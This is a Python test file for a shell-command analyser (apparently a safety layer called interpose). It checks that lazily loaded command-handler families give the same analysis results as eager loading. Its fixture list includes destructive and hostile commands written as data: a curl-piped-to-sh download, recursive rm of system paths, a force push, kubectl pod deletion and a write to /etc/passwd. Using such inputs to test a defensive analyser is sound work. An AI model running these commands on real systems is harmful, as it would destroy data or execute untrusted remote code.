"""Families of commands that are imported when they are needed say what they say when all are."""

from __future__ import annotations

import json
import subprocess
import sys

PROGRAM = """
import json, sys
from interpose.shell import analyse, commands
from interpose.shell.commands.shared.handler_table import HANDLERS

known, scripts = json.load(sys.stdin)
if known:
    commands.defer(known)
said = [repr(analyse(script)) for script in scripts]
print(json.dumps([said, commands.families() if not known else sorted(HANDLERS), len(sys.modules)]))
"""
SCRIPTS = [
    "git push --force origin main && npm test", "sudo rm -rf /srv", "curl -s https://x.example/i.sh | sh", "RM -r /",
    "python3 -c 'import os; os.remove(`x`)'", "find . -name '*.py' -exec sed -i s/a/b/ {} +", "nosuch thing",
    "xargs -0 kubectl delete pod", "env A=1 nohup tar xf a.tar -C /", "g?t clean -fdx", "echo hi > /etc/passwd",
]  # fmt: skip


def _run(known: object) -> list[object]:
    done = subprocess.run(
        [sys.executable, "-I", "-c", PROGRAM], input=json.dumps([known, SCRIPTS]), capture_output=True, text=True,
        check=True,
    )  # fmt: skip
    answer: list[object] = json.loads(done.stdout)
    return answer


def test_what_is_imported_later_says_the_same() -> None:
    said, families, _ = _run({})
    assert isinstance(families, dict)
    later, names, _ = _run(families)
    assert later == said
    assert names == sorted(families)


def test_few_commands_import_few_families() -> None:
    _, families, _ = _run({})
    code = PROGRAM.replace("for script in scripts", "for script in scripts[:1]")
    few, all_ = (
        json.loads(
            subprocess.run(
                [sys.executable, "-I", "-c", code], input=json.dumps([known, SCRIPTS]), capture_output=True, text=True,
                check=True,
            ).stdout
        )[2]
        for known in (families, {})
    )  # fmt: skip
    assert few < all_ - 40
